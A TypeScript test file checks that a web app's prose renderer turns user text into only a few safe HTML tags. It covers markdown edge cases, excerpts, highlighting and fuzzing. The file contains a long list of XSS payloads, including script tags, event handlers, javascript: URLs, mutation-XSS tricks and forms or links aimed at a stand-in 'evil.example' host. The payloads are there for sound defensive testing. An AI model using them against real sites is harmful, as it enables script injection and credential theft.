import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { cutText, proseText, renderProse } from '../../../app/prose'
import { Prose, proseHtml } from '../../../app/ui/prose'
import { starterAnswers } from '../../../db/seed/starter-answers'
import { randomly } from '../../support/concern-texts'

/** All that a page may ever hold of what somebody wrote: text without a "<", entities, nine tags, `start` on lists. */
const harmless =
  /^(?:[^<>&]|&(?:amp|lt|gt|quot|#\d+);|<(?:\/?(?:p|em|strong|ul|ol|li|blockquote|mark)|br \/|ol start="\d{1,2}")>)*$/

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/src=data:,alert(1)>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><noscript><style></desc><img src=x onerror=alert(1)></style></noscript>',
  '<math><mtext></p><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math href="javascript:alert(1)">here</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">here</a>',
  '<a href="java\tscript:alert(1)">here</a>',
  '<a href="&#106;&#97;vascript:alert(1)">here</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">here</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">here</p>',
  '<p onclick="alert(1)" class="card" id="main">here</p>',
  '<p onmouseover=alert(1)//>here',
  '<em onfocus=alert(1) tabindex=0 autofocus>here</em>',
  '<ol start="1" onclick="alert(1)"><li>here</ol>',
  '<details open ontoggle=alert(1)>here</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<button formaction="javascript:alert(1)">here</button>',
  '<form action="//evil.example"><input name=key></form>',
  '<table background="javascript:alert(1)"><tr><td>',
  '<marquee onstart=alert(1)>here</marquee>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!DOCTYPE html><html><head>',
  '</p></div></section></main><h1>Signed out: type your key</h1>',
  '<custom-element onclick=alert(1)></custom-element>',
  '<template><script>alert(1)</script></template>',
  '<slot name=x></slot><portal src=//evil.example></portal>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;script&amp;gt;',
  '\\<script>alert(1)\\</script>',
  '[here](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '*<img src=x onerror=alert(1)>* **<b>bold</b>**',
  '> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>',
  '1. <img src=x onerror=alert(1)>\n2. "onclick=alert(1)',
  '999999999999999999999. here',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '\u0000<\u0000script>alert(1)</script>',
  '<\u200bscript>alert(1)</script>',
  '\u2028<script>\u2029alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<p',
  '<',
  '<a href="',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
]

describe('what people write', () => {
  it.each(hostile)('does nothing on a page: %j', text => {
    expect(proseHtml(text)).toMatch(harmless)
  })

  it('keeps every letter of it as text', () => {
    expect(proseHtml('<b onclick="x">a & b</b>')).toBe(
      '<p>&lt;b onclick=&quot;x&quot;&gt;a &amp; b&lt;/b&gt;</p>\n',
    )
  })

  it('does nothing in the forms that a post takes when two hostile ones meet', () => {
    for (const one of hostile)
      for (const other of ['> ', '- ', '*', '\\', '<', '\n\n'])
        expect(proseHtml(other + one)).toMatch(harmless)
    expect(proseHtml(hostile.join('\n'))).toMatch(harmless)
    expect(proseHtml(hostile.join(''))).toMatch(harmless)
  })
})

describe('a few signs', () => {
  it.each([
    ['one\n\ntwo', '<p>one</p>\n<p>two</p>\n'],
    ['one\ntwo', '<p>one<br />\ntwo</p>\n'],
    ['*so* **much**', '<p><em>so</em> <strong>much</strong></p>\n'],
    [
      '_so_ “*much*” (*really*), *no!*',
      '<p><em>so</em> “<em>much</em>” (<em>really</em>), <em>no!</em></p>\n',
    ],
    ['- one\n- two', '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n'],
    [
      'I tried:\n* *one*\n* two\nNo.',
      '<p>I tried:</p>\n<ul>\n<li><em>one</em></li>\n<li>two</li>\n</ul>\n<p>No.</p>\n',
    ],
    ['1. one\n2. two', '<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n'],
    ['3. three\n4. four', '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'],
    ['> said\n> twice', '<blockquote>\n<p>said<br />\ntwice</p>\n</blockquote>\n'],
    ['> her words\nmy answer', '<blockquote>\n<p>her words</p>\n</blockquote>\n<p>my answer</p>\n'],
    [
      '> one\n>\n> - two\n> - three',
      '<blockquote>\n<p>one</p>\n<ul>\n<li>two</li>\n<li>three</li>\n</ul>\n</blockquote>\n',
    ],
    [
      '> 30 mg, she said\n> and no more',
      '<blockquote>\n<p>30 mg, she said<br />\nand no more</p>\n</blockquote>\n',
    ],
  ])('make paragraphs, stress, lists and quotes: %j', (text, html) => {
    expect(proseHtml(text)).toBe(html)
  })

  it.each([
    ['times', '3*50mg or 2*50mg', '3 * 50 and *2', '3 *50mg, 2* 25mg', '2 *50*', '*2*.5', '2**3 or 3**2'],
    ['censored words', 's*x and then p*rn', 'f**k it, f*** you, **** off', 'sh*t, b**ch'],
    [
      'words for everybody',
      'Partner*innen und Freund*innen',
      'Partner* und Freund*',
      'latin*, trans* and cis',
    ],
    ['footnotes', 'Take it daily* and twice**', 'once * never', 'a* b* c*'],
    ['faces', '>:( and >.<', '¯\\_(ツ)_/¯', '*_* or ^_^ or -_- or >_<', '_(._.)_', '(*^_^*)', 'T_T'],
    ['names of files', 'my_long_name and __init__', 'a_b_c', '/_a_/'],
    [
      'numbers at line starts',
      '30.\n40.\n50.',
      '30. mg\n40. mg\n50. mg',
      '1998. That was the year',
      '01. a\n02. b',
    ],
    [
      'numbers that do not count up',
      '1. a\n1. b',
      '2. a\n1. b',
      '1998. We met.\n1999. We left.',
      '1) a\n2) b',
    ],
    ['one line of a list', '- nothing.\nHe left.', '* one', '1. one', '- one\n\n- two', '- one\n* two'],
    ['comparisons', '> 18 only', '> 50 mg\n> 100 mg', '>18', '>'],
    ['separators', '* * *', '* * *\n* * *', '- - -\n- - -', '***', '---', '___'],
    ['unclosed and empty stress', '*so', 'so*', '**', '* so *', '*so*y much', '***so***', '*so\nmuch*'],
    ['backslashes', '\\*not\\*', 'C:\\_x_', '\\'],
    [
      'what programmers type',
      '# 1',
      '`code`',
      '[link](https://a.example) https://b.example',
      '| a | b |\n|---|---|',
    ],
    ['indented lines', 'one\n    two'],
  ])('are not seen in %s', (_, ...texts) => {
    for (const text of texts) {
      const typed = text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
      const paragraphs = typed.split('\n\n').map(each => `<p>${each.replaceAll('\n', '<br />\n')}</p>\n`)
      expect(proseHtml(text)).toBe(paragraphs.join(''))
    }
  })

  it('stand in excerpts as little as on pages, and what is no sign stands in both', () => {
    expect(proseText('*So* **much**:\n\n- one\n- two\n\n> said\n\n9. a\n10. b')).toBe(
      'So much: one two said 9. a 10. b',
    )
    expect(proseText('3*50mg, s*x\n30.\n40.\n¯\\_(ツ)_/¯ >:(')).toBe('3*50mg, s*x 30. 40. ¯\\_(ツ)_/¯ >:(')
  })

  it('never leave half a character in an excerpt', () => {
    expect(cutText('❤️👍🏽👍', 3, 7)).toBe('\u{1f3fd}')
  })

  it('stand around what is marked, or within it', () => {
    const text = 'I am *34*, in <Leeds>.\n- a nurse\n- in May'
    const marks: [number, number][] = [
      [5, 10],
      [14, 20],
      [18, 21],
      [24, 37],
    ]
    expect(renderProse(text, marks)).toBe(
      '<p>I am <em><mark>34</mark></em><mark>,</mark> in <mark>&lt;Leeds&gt;</mark>.</p>\n' +
        '<ul>\n<li><mark>a nurse</mark></li>\n<li><mark>in</mark> May</li>\n</ul>\n',
    )
    expect(renderProse(text, marks)).toMatch(harmless)
  })

  it.each([
    '> '.repeat(3_000),
    '- '.repeat(3_000),
    '*'.repeat(10_000),
    '*a '.repeat(3_000),
    '**a* '.repeat(2_000),
    '\\'.repeat(10_000),
    '<'.repeat(10_000),
    `${'> '.repeat(200)}a`,
  ])('nest only so deep and take no time, whatever is typed', text => {
    const start = performance.now()
    const html = proseHtml(text)
    expect(performance.now() - start).toBeLessThan(2_000)
    expect(html).toMatch(harmless)
    expect(html.match(/<blockquote>|<ul>/g)?.length ?? 0).toBeLessThanOrEqual(20)
  })

  it('stand in one plain box on a page', () => {
    expect(renderToStaticMarkup(<Prose text="*so*" />)).toBe(
      '<div class="prose" dir="auto"><p><em>so</em></p>\n</div>',
    )
  })
})

describe('letters and digits', () => {
  const parts = [
    ...[
      '*',
      '**',
      '_',
      '__',
      '***',
      '- ',
      '* ',
      '> ',
      '>',
      '>> ',
      '1. ',
      '2. ',
      '3. ',
      '10. ',
      '99. ',
      '100. ',
      '007. ',
    ],
    ...[
      '\n',
      '\n\n',
      '\n\n\n',
      ' ',
      '  ',
      '    ',
      '\t',
      '\\',
      '/',
      '(',
      ')',
      '“',
      '”',
      '"',
      "'",
      '.',
      ',',
      '!',
      '?',
      ':',
      '—',
      '-',
    ],
    ...[
      '<',
      '&',
      '&amp;',
      '&#49;',
      '<b>',
      '</p>',
      '`',
      '#',
      '|',
      '~',
      '[',
      '](',
      '+ ',
      '1) ',
      '• ',
      '¯\\_(ツ)_/¯',
    ],
    ...[
      'a',
      'word',
      'f**k',
      's*x',
      '3*50mg',
      '2',
      '50',
      '1998',
      '½',
      '٣',
      '²',
      'é',
      'ß',
      '愛',
      'สวัสดี',
      'क्षि',
      'مرحبا',
      '👨‍👩‍👧',
      '❤️',
      '\u0301',
    ],
  ]

  const spoken = (text: string) => text.match(/[\p{L}\p{M}\p{N}]+/gu)?.join('') ?? ''

  const signs: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"' }

  /** What a reader sees of a page: its text, and the numbers that a browser puts before the items of a list. */
  function seen(html: string): string {
    const numbered = html.replace(/<ol(?: start="(\d+)")?>(.*?)<\/ol>/gs, (_, first = '1', items: string) => {
      let number = Number(first)
      return items.replaceAll('<li>', () => `${number++}. `)
    })
    return numbered.replace(/<[^>]*>/g, '').replace(/&(amp|lt|gt|quot);/g, (_, name) => signs[name] ?? '')
  }

  it('of a text are those of its page and of its excerpt, in their order', () => {
    const share = randomly(11)
    const random = (below: number) => Math.floor(share() * below)
    for (let round = 0; round < 20_000; round++) {
      const text = Array.from({ length: 1 + random(24) }, () => parts[random(parts.length)] ?? '').join('')
      const marks = Array.from({ length: random(3) }, (): [number, number] => {
        const start = random(text.length)
        return [start, start + random(text.length - start + 1)]
      })
      for (const html of [proseHtml(text), renderProse(text, marks)]) {
        expect(html, text).toMatch(harmless)
        expect(spoken(seen(html)), text).toBe(spoken(text))
      }
      expect(spoken(proseText(text)), text).toBe(spoken(text))
    }
  })

  it('of every starter answer are those of its page', () => {
    for (const { answer, easy } of starterAnswers)
      for (const text of [answer, easy]) expect(spoken(seen(proseHtml(text)))).toBe(spoken(text))
  })
})
